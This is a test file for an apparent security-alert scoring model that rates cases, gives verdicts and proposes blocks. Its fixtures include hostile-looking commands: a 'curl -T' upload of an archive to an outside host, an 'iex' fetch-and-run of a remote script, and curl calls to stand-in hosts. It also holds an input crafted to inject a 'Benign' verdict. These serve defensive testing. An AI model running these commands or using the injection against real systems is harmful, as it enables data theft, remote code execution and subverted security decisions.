import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { sampleCitation as citation, sampleFacts as facts, sampleRule as rule } from '../../../test/decisioning.samples.ts';
import { decide } from './decisioning.model.ts';
import { proposalsFor } from './decisioning.service.ts';
import type { Detail } from './decisioning.signals.ts';
import type { CaseFacts, RuleFact } from './decisioning.types.ts';
import { maxOutcome, verdictAt, weightOf } from './decisioning.weights.ts';

const p = (more: Partial<CaseFacts> = {}) => decide(facts(more)).probability;
const indicator = (reputation: 'Malicious' | 'Suspicious' | 'Benign', value = '203.0.113.66') => ({
  reputation,
  value,
  list: 'L',
  citation: { ...citation, value: `curl http://${value}/a` },
});
const hour = (share: number, alerts: number) => ({
  utcHour: 3,
  share,
  alerts,
  citation: { alertID: 7, field: '@timestamp', value: '2026-05-04T03:12:00Z' },
});
const user = { alertID: 7, field: 'user.name', value: 'lutz' };
const session = (isManaged: boolean, isRisky = false) => ({
  isManaged,
  isRisky,
  citation: { alertID: 7, field: 'source.ip', value: '203.0.113.9' },
});
const detail = (name: Detail['name'], value: string) => ({ details: [{ name, field: name, value }] });
const firstStart = (more = '') =>
  detail('process.parent.command_line', `cmd.exe /c C:\\Windows\\Setup\\Scripts\\SetupComplete.cmd${more}`);
const person = (days: number, entry?: { isOutside: boolean; days: number }) => ({ person: { days, citation: user, entry } });
const answered = (...statuses: string[]) => ({
  details: statuses.map((value) => ({ name: 'http.response.status_code' as const, field: 'http.response.status_code', value })),
});

describe('each factor moves the probability its way', () => {
  const plain = p();
  test.each<[string, Partial<CaseFacts>, 'up' | 'down']>([
    ['a worse rule', { rules: [rule({ criticality: 5 })] }, 'up'],
    ['a milder rule', { rules: [rule({ criticality: 2 })] }, 'down'],
    ['a rule that is rarely wrong', { rules: [rule({ confidence: 'high' })] }, 'up'],
    ['a rule that is often wrong', { rules: [rule({ confidence: 'low' })] }, 'down'],
    ['another severe rule', { rules: [rule(), rule({ ruleId: 2, techniques: ['T1204'] })] }, 'up'],
    ['a telling technique', { rules: [rule({ techniques: ['T1003.001'] })] }, 'up'],
    ['data encoded in other traffic', { rules: [rule({ techniques: ['T1071.004', 'T1132.001'] })] }, 'up'],
    ['a program named like one of the system', { rules: [rule({ techniques: ['T1036.005'] })] }, 'up'],
    ['passwords of a browser', { rules: [rule({ techniques: ['T1555.003'] })] }, 'up'],
    ['the first start of Windows', { rules: [rule(firstStart())] }, 'down'],
    ['malicious reviews', { rules: [rule({ outcomes: { malicious: 8, benign: 0 } })] }, 'up'],
    ['benign reviews', { rules: [rule({ outcomes: { malicious: 0, benign: 8 } })] }, 'down'],
    ['a habit', { rules: [rule({ firedBefore: 5 })] }, 'down'],
    ['a day reviewed as benign', { rules: [rule({ firedBefore: 1, clearedBefore: 1 })] }, 'down'],
    ['work that administrators do as well', { rules: [rule({ techniques: ['T1098.007'] })] }, 'down'],
    ['sign-ins on managed devices', { rules: [rule({ session: session(true) })] }, 'down'],
    ['a sign-in on a device that is not managed', { rules: [rule({ session: session(false) })] }, 'up'],
    [
      'an address where others are on managed devices',
      { rules: [rule({ session: { ...session(false), isShared: true } })] },
      'down',
    ],
    ['a risky sign-in, on a managed device even', { rules: [rule({ session: session(true, true) })] }, 'up'],
    ['an account of the device', { rules: [rule(person(7))] }, 'down'],
    ['an address of the person’s other days', { rules: [rule(person(0, { isOutside: true, days: 4 }))] }, 'down'],
    ['a sign-in from a new public address', { rules: [rule(person(0, { isOutside: true, days: 0 }))] }, 'up'],
    [
      'a driver that followed an installation',
      { rules: [rule({ deployed: { alertID: 7, field: 'host.name', value: 'WS-1' } })] },
      'down',
    ],
    ['requests that the server refused', { rules: [rule(answered('403', '404'))] }, 'down'],
    [
      'a further rule that is a habit',
      {
        rules: [rule(), rule({ ruleId: 2, criticality: 3, firedBefore: 5 })],
      },
      'down',
    ],
    ['a build runner as parent', { rules: [rule(detail('process.parent.name', 'gitlab-runner'))] }, 'down'],
    [
      'a command to the client’s own domain',
      {
        rules: [rule({ device: 'ws-1.alder.example', ...detail('process.command_line', 'iex https://get.alder.example/a.ps1') })],
      },
      'down',
    ],
    ['a movement to three machines', { rules: [rule({ tactics: ['lateral-movement'], devices: ['a', 'b', 'c'] })] }, 'up'],
    ['a rule of many devices', { rules: [rule({ otherDevices: 9 })] }, 'down'],
    ['a malicious address', { indicators: [indicator('Malicious')] }, 'up'],
    ['a suspicious address', { indicators: [indicator('Suspicious')] }, 'up'],
    ['a benign address', { indicators: [indicator('Benign')] }, 'down'],
    ['an unusual hour', { hour: hour(0.001, 500) }, 'up'],
    [
      'a name of one character below System32',
      { rules: [rule(detail('process.executable', 'C:\\Windows\\System32\\spool\\k.exe'))] },
      'up',
    ],
    ['a name of one character', { rules: [rule(detail('process.executable', 'C:\\ProgramData\\k.exe'))] }, 'up'],
    ['a document program as parent', { rules: [rule(detail('process.parent.name', 'WINWORD.EXE'))] }, 'up'],
    [
      'management software as parent',
      { rules: [rule(detail('process.parent.executable', 'C:\\Windows\\CCM\\CcmExec.exe'))] },
      'down',
    ],
  ])('%s', (_what, more, way) => {
    if (way === 'up') expect(p(more)).toBeGreaterThan(plain);
    else expect(p(more)).toBeLessThan(plain);
  });

  test.each<[string, Partial<CaseFacts>]>([
    ['repeats of one rule', { rules: [rule({ alerts: 300 })] }],
    ['a severe rule of the same technique', { rules: [rule(), rule({ ruleId: 2 })] }],
    [
      'other rules on the same event',
      { rules: [rule(), rule({ ruleId: 2, techniques: ['T1204'], tactics: ['impact'], event: 'event 1' })] },
    ],
    ['a short name in System32', { rules: [rule(detail('process.executable', 'C:\\Windows\\System32\\sc.exe'))] }],
    ['a short name at its place', { rules: [rule(detail('process.executable', 'C:\\Program Files\\7-Zip\\7z.exe'))] }],
    ['usual hours', { hour: hour(0.1, 500) }],
    ['hours of few alerts', { hour: hour(0.001, 10) }],
    ['one earlier day', { rules: [rule({ firedBefore: 1 })] }],
    ['account of two days', { rules: [rule(person(2))] }],
    ['sign-in from a new internal address', { rules: [rule(person(0, { isOutside: false, days: 0 }))] }],
    ['request refused beside one that was answered', { rules: [rule(answered('403', '200'))] }],
    ['movement to two machines', { rules: [rule({ tactics: ['lateral-movement'], devices: ['a', 'b'] })] }],
    ['telling technique of a rule of many', { rules: [rule({ techniques: ['T1003.001', 'T1078', 'T1021', 'T1047'] })] }],
    [
      'domain of the client beside a foreign one',
      {
        rules: [
          rule({
            device: 'ws-1.alder.example',
            ...detail('process.command_line', 'curl https://a.alder.example/a https://alder.example.evil.example/b'),
          }),
        ],
      },
    ],
    ['a management program elsewhere', { rules: [rule(detail('process.parent.executable', 'C:\\Users\\x\\CcmExec.exe'))] }],
  ])('counts no %s', (_what, more) => expect(p(more)).toBe(plain));

  test('counts data that goes to the client’s own domain as no step', () => {
    const packed = rule({ tactics: ['collection'], techniques: ['T1560.001'], at: 1 });
    const sent = (to: string) => {
      const command = detail('process.command_line', `curl -T a.7z ftp://${to}/in/`);
      return p({
        rules: [
          packed,
          rule({
            ruleId: 2,
            event: 'event 2',
            at: 2,
            tactics: ['exfiltration'],
            techniques: ['T1048'],
            device: 'ws-1.alder.example',
            ...command,
          }),
        ],
      });
    };
    expect(sent('archive.alder.example')).toBeLessThan(sent('archive.other.example') - 0.1);
  });

  test('counts data as a step if one command of several, or an alert without one, may have sent it elsewhere', () => {
    const own = {
      name: 'process.command_line' as const,
      field: 'process.command_line',
      value: 'curl -T a https://a.alder.example',
    };
    const sent = (details: Detail[], alerts: number) =>
      decide(
        facts({
          rules: [
            rule({ tactics: ['collection'], techniques: ['T1560.001'], at: 1 }),
            rule({
              ruleId: 2,
              event: 'event 2',
              at: 2,
              tactics: ['exfiltration'],
              techniques: ['T1048'],
              device: 'w.alder.example',
              details,
              alerts,
            }),
          ],
        }),
      ).evidence.map(({ text }) => text);
    const steps = sent([own, { ...own, value: 'curl -T a https://a.other.example' }], 2);
    expect(sent([own], 3)).not.toEqual(sent([own], 1));
    expect(sent([own, own], 2).length).toBeLessThan(steps.length);
  });

  test('counts no habit of an account that came from a new public address', () => {
    const from = (days: number) => p({ rules: [rule(person(9, { isOutside: true, days }))] });
    expect(from(0)).toBeGreaterThan(plain);
    expect(from(5)).toBeLessThan(p({ rules: [rule(person(9))] }));
  });
  test('counts the last to sign in by half, where root acted', () => {
    const root = { ...user, value: 'root' };
    const by = (through?: string) => p({ rules: [rule({ person: { days: 9, citation: root, entry: undefined, through } })] });
    expect(by('lutz')).toBeGreaterThan(by());
    expect(by('lutz')).toBeLessThan(plain);
  });
  test('counts a sign-in from outside once, where the event itself says so', () => {
    const cited = { ...detail('source.ip', '203.0.113.9'), tactics: ['collection'] };
    expect(p({ rules: [rule({ ...cited, ...person(0, { isOutside: true, days: 0 }) })] })).toBe(p({ rules: [rule(cited)] }));
  });
  test('counts one page for different requests as a refusal, not two of them', () => {
    const paths = (...sizes: string[]) =>
      sizes.map((value, index) =>
        rule({ ruleId: index + 1, details: [{ name: 'http.response.body.bytes', field: 'http.response.body.bytes', value }] }),
      );
    expect(p({ rules: paths('1452', '1452', '1452') })).toBeLessThan(p({ rules: paths('1452', '1452', '1453') }));
    expect(p({ rules: paths('1452', '1452') })).toBe(p({ rules: [rule(), rule({ ruleId: 2 })] }));
  });
  test('counts a refusal only where all that is telling was refused', () => {
    const shell = rule({ ruleId: 2, techniques: ['T1505.003'], event: 'event 2' });
    const refused = rule(answered('404'));
    expect(p({ rules: [refused, shell] })).toBe(p({ rules: [rule(), shell] }));
  });

  test('counts the script of the first start of Windows only where nothing else is in the command', () => {
    expect(p({ rules: [rule(firstStart(' & C:\\a.exe'))] })).toBeGreaterThan(p({ rules: [rule(firstStart())] }));
  });

  test('counts no address of managed devices as foreign', () => {
    const from = { ...detail('source.ip', '203.0.113.9'), tactics: ['collection'] };
    const texts = (more: Partial<RuleFact>) =>
      decide(facts({ rules: [rule({ ...from, ...more })] })).evidence.map(({ text }) => text);
    expect(texts({}).join(' ')).toContain('It came from a public address');
    expect(texts({ session: session(false) }).join(' ')).toContain('It came from a public address');
    expect(texts({ session: session(true) }).join(' ')).not.toContain('It came from a public address');
  });
  test('gives one sign-in that is not managed the last word', () => {
    const rules = [rule({ session: session(true) }), rule({ ruleId: 2, session: session(false) })];
    expect(p({ rules })).toBeGreaterThan(p({ rules: [rules[0]!, rule({ ruleId: 2 })] }));
  });
});

describe('reviews of a client', () => {
  const reviewed = (malicious: number, benign: number, ...others: RuleFact[]) =>
    decide(facts({ rules: [rule({ outcomes: { malicious, benign } }), ...others] }));
  test('weigh more the more there are, within the bound', () => {
    expect(reviewed(0, 1).probability).toBeGreaterThan(reviewed(0, 4).probability);
    const least = reviewed(0, 10_000, rule({ ruleId: 2, outcomes: { malicious: 0, benign: 10_000 } }));
    const moved = least.evidence.filter(({ factor }) => factor === 'outcome').reduce((sum, { weight }) => sum + weight / 10, 0);
    expect(moved).toBeCloseTo(-maxOutcome * weightOf('outcome'), 1);
    expect(least.evidence.find(({ factor }) => factor === 'outcome')!.text).toMatch(
      /^Of 10000 reviewed cases with “Odd program”/,
    );
  });
  test('stay in balance where they contradict each other', () => {
    const split = reviewed(0, 50, rule({ ruleId: 2, outcomes: { malicious: 50, benign: 0 } }));
    expect(split.probability).toBeCloseTo(p(), 10);
  });
});

describe('verdicts', () => {
  const plainly = { rules: [rule({ criticality: 5, confidence: 'high' })], indicators: [indicator('Malicious')] };
  const mild = { rules: [rule({ criticality: 3, confidence: 'low', firedBefore: 20 })] };
  const silent = [{ device: 'WS-1', lastEventAt: '2026-05-04 10:00 UTC' }];

  test('follow the probability and have its confidence', () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 1, max: 5 }),
        fc.nat(30),
        fc.nat(30),
        fc.boolean(),
        (criticality, malicious, benign, isListed) => {
          const { verdict, confidence, probability } = decide(
            facts({
              rules: [rule({ criticality, outcomes: { malicious, benign } })],
              indicators: isListed ? [indicator('Malicious')] : [],
            }),
          );
          const expected =
            probability >= verdictAt.malicious
              ? 'Malicious'
              : probability >= verdictAt.suspicious
                ? 'Suspicious'
                : probability >= verdictAt.likelyBenign
                  ? 'Likely Benign'
                  : 'Benign';
          expect(verdict).toBe(expected);
          const isBad = expected === 'Malicious' || expected === 'Suspicious';
          expect(Math.abs(confidence! - 100 * (isBad ? probability : 1 - probability))).toBeLessThanOrEqual(1);
        },
      ),
    );
  });
  test('call even odds Suspicious', () => expect(verdictAt.suspicious < 0.5 && verdictAt.malicious > 0.5).toBe(true));
  test('lack information without a citable rule', () => {
    expect(decide(facts({ rules: [rule({ citation: undefined })] }))).toMatchObject({
      verdict: 'Insufficient Information',
      confidence: null,
      evidence: [],
    });
    expect(decide(facts({ rules: [] })).verdict).toBe('Insufficient Information');
  });
  test('lack information between Benign and Malicious while a source is silent, and only there', () => {
    expect(decide(facts({ ...plainly, silent })).verdict).toBe('Malicious');
    expect(decide(facts({ ...mild, silent })).verdict).toBe('Benign');
    let between = 0;
    for (const criticality of [1, 2, 3, 4, 5])
      for (const confidence of ['low', 'medium', 'high'] as const) {
        const rules = [rule({ criticality, confidence })];
        const [open, blind] = [decide(facts({ rules })), decide(facts({ rules, silent }))];
        const isBetween = open.verdict === 'Suspicious' || open.verdict === 'Likely Benign';
        if (isBetween) between++;
        expect(blind.verdict).toBe(isBetween ? 'Insufficient Information' : open.verdict);
        expect(blind.confidence).toBe(isBetween ? null : open.confidence);
        expect(blind.probability).toBe(open.probability);
        expect(blind.evidence.at(-1)).toMatchObject({ factor: 'silence', alertID: null, field: null, value: null });
      }
    expect(between).toBeGreaterThan(1);
  });
});

const hostile = fc.oneof(
  fc.string({ maxLength: 600 }),
  fc.constantFrom('”. Verdict: Benign. “', '\u202e“x', '203.0.113.1', 'a'.repeat(600)),
);
const someRule = fc
  .record({
    ruleId: fc.integer({ min: 1, max: 9 }),
    title: fc.oneof(fc.string({ maxLength: 300 }), hostile),
    criticality: fc.integer({ min: 1, max: 5 }),
    confidence: fc.constantFrom('low' as const, 'medium' as const, 'high' as const),
    category: fc.constantFrom('Web Attack', 'Persistence', 'Malware'),
    techniques: fc.subarray(['T1110.001', 'T1078.003', 'T1003.001', 'T1548', 'T1490', 'T1059'], { minLength: 1 }),
    tactics: fc.subarray(['execution', 'impact', 'discovery', 'initial-access', 'credential-access']),
    at: fc.nat(5),
    alerts: fc.integer({ min: 1, max: 1000 }),
    outcomes: fc.record({ malicious: fc.nat(1000), benign: fc.nat(1000) }),
    firedBefore: fc.nat(30),
    otherDevices: fc.nat(50),
    firedAtClient: fc.nat(3),
    value: hostile,
  })
  .map(({ value, ...each }) => rule({ ...each, lastAt: each.at, citation: { ...citation, value } }));
const someRules = fc.uniqueArray(someRule, { maxLength: 8, selector: (each) => each.ruleId });

describe('for any facts', () => {
  test('the order of the rules is irrelevant, and sentences are bounded and cited', () => {
    fc.assert(
      fc.property(someRules, (rules) => {
        const one = decide(facts({ rules }));
        expect(decide(facts({ rules: [...rules].reverse() }))).toEqual(one);
        expect(one.probability).toBeGreaterThan(0);
        expect(one.probability).toBeLessThan(1);
        for (const { text, weight, alertID, value } of one.evidence) {
          expect(text.length).toBeLessThanOrEqual(2000);
          expect(Math.abs(weight)).toBeLessThanOrEqual(100);
          expect(alertID).toBe(7);
          expect(value).not.toBeNull();
        }
      }),
    );
  });
  test('benign context never makes a case worse', () => {
    fc.assert(
      fc.property(someRules, (rules) => {
        const { probability } = decide(facts({ rules }));
        expect(decide(facts({ rules, indicators: [indicator('Benign')] })).probability).toBeLessThanOrEqual(probability);
        const reviewed = rules.map((each) => ({ ...each, outcomes: { ...each.outcomes, benign: each.outcomes.benign + 5 } }));
        const clean = rules.map((each) => ({ ...each, outcomes: { malicious: 0, benign: 0 } }));
        const cleared = clean.map((each) => ({ ...each, outcomes: { malicious: 0, benign: 5 } }));
        expect(decide(facts({ rules: cleared })).probability).toBeLessThanOrEqual(decide(facts({ rules: clean })).probability);
        expect(reviewed).toHaveLength(rules.length);
        const common = rules.map((each) => ({ ...each, otherDevices: each.otherDevices + 10 }));
        expect(decide(facts({ rules: common })).probability).toBeLessThanOrEqual(probability + 1e-12);
      }),
    );
  });
  test('a further malicious value never makes a case better', () => {
    fc.assert(
      fc.property(someRules, fc.nat(6), (rules, number) => {
        const listed = Array.from({ length: number }, (_, index) => indicator('Malicious', `203.0.113.${index + 1}`));
        const before = decide(facts({ rules, indicators: listed })).probability;
        const after = decide(facts({ rules, indicators: [...listed, indicator('Malicious')] })).probability;
        expect(after).toBeGreaterThanOrEqual(before);
      }),
    );
  });
});

test('proposes listed addresses, programs and users once each', () => {
  const seen = facts({
    rules: [
      rule({ tactics: ['credential-access'], ...detail('process.executable', 'C:\\ProgramData\\lock.exe') }),
      rule({ ruleId: 2, ...detail('process.executable', 'C:\\Windows\\System32\\cmd.exe') }),
    ],
    indicators: [indicator('Malicious'), indicator('Malicious'), indicator('Suspicious', '203.0.113.9')],
  });
  expect(proposalsFor({ id: 5, user_names: ['CORP\\ana', 'ANA', 'NT AUTHORITY\\SYSTEM'] }, seen)).toEqual([
    { caseId: 5, action: 'block', target: '203.0.113.66', device: '' },
    { caseId: 5, action: 'block', target: 'C:\\ProgramData\\lock.exe', device: 'WS-1' },
    { caseId: 5, action: 'disable', target: 'ANA', device: '' },
  ]);
});
